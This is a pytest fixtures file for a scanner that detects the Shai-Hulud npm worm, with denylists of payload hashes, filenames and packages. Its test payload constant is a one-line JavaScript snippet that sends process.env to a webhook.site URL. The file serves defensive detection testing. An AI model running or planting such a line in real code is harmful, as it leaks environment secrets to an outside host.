"""Shared fixtures for the Shai-Hulud scanner test suite."""

import hashlib
import os

import pytest

from hulud_scanner.models import (
    Category,
    CheckContext,
    Denylist,
    FilenamePatternEntry,
    Finding,
    HashEntry,
    PackageEntry,
    Repository,
    ScanSummary,
    Severity,
)


# ---------------------------------------------------------------------------
# Payload and denylists
# ---------------------------------------------------------------------------

PAYLOAD_JS = b"(function(){var t=process.env;fetch('https://webhook.site/x',{body:JSON.stringify(t)})})();\n"
PAYLOAD_SHA256 = hashlib.sha256(PAYLOAD_JS).hexdigest()

HASHES_TXT = f"""\
# known payloads
{PAYLOAD_SHA256},bundle.js test payload

{"0" * 64}
"""

FILENAMES_TXT = """\
# name,description
bun_environment.js,obfuscated payload
.github/workflows/shai-hulud-workflow.yml,propagation workflow
"""

PACKAGES_TXT = """\
# name:version
left-pad:1.3.0
@ctrl/tinycolor:4.1.1
"""


@pytest.fixture
def payload_js():
    return PAYLOAD_JS


@pytest.fixture
def payload_sha256():
    return PAYLOAD_SHA256


@pytest.fixture
def denylist():
    return Denylist(
        hashes=frozenset({HashEntry(PAYLOAD_SHA256), HashEntry("0" * 64)}),
        filenames=frozenset({
            FilenamePatternEntry("bun_environment.js"),
            FilenamePatternEntry(".github/workflows/shai-hulud-workflow.yml"),
        }),
        packages=frozenset({
            PackageEntry("left-pad", "1.3.0"),
            PackageEntry("@ctrl/tinycolor", "4.1.1"),
        }),
    )


@pytest.fixture
def denylist_dir(tmp_path):
    directory = tmp_path / "denylists"
    directory.mkdir()
    (directory / "hashes.txt").write_text(HASHES_TXT, encoding="utf-8")
    (directory / "filenames.txt").write_text(FILENAMES_TXT, encoding="utf-8")
    (directory / "packages.txt").write_text(PACKAGES_TXT, encoding="utf-8")
    return str(directory)


@pytest.fixture
def ctx():
    return CheckContext(git="git", git_timeout=5)


# ---------------------------------------------------------------------------
# Repository trees
# ---------------------------------------------------------------------------

def _write_file(root, rel_path, content):
    path = os.path.join(str(root), *rel_path.split("/"))
    os.makedirs(os.path.dirname(path), exist_ok=True)
    mode = "wb" if isinstance(content, bytes) else "w"
    with open(path, mode) as f:
        f.write(content)
    return path


@pytest.fixture
def write_file():
    """Write text or bytes at a slash-separated path below root."""
    return _write_file


@pytest.fixture
def make_repo(tmp_path):
    """Create ``<base>/<name>/.git`` and return the Repository."""

    def _make(name, base=None):
        root = os.path.join(str(base or tmp_path), name)
        control = os.path.join(root, ".git")
        os.makedirs(control)
        return Repository(root_path=root, control_dir=control)

    return _make


@pytest.fixture
def sample_findings():
    return [
        Finding(Severity.HIGH, Category.FILE_HASH, "/src/app", "dist/bundle.js matches known payload", "/src/app/dist/bundle.js"),
        Finding(Severity.HIGH, Category.BRANCH, "/src/app", "Remote branch 'shai-hulud' on origin matches 'shai-hulud'"),
        Finding(Severity.MEDIUM, Category.PACKAGE_MANIFEST, "/src/lib", "left-pad@1.3.0 declared in dependencies", "/src/lib/package.json"),
    ]


@pytest.fixture
def sample_summary():
    return ScanSummary(drive_count=1, repository_count=3, high_count=2, medium_count=1)
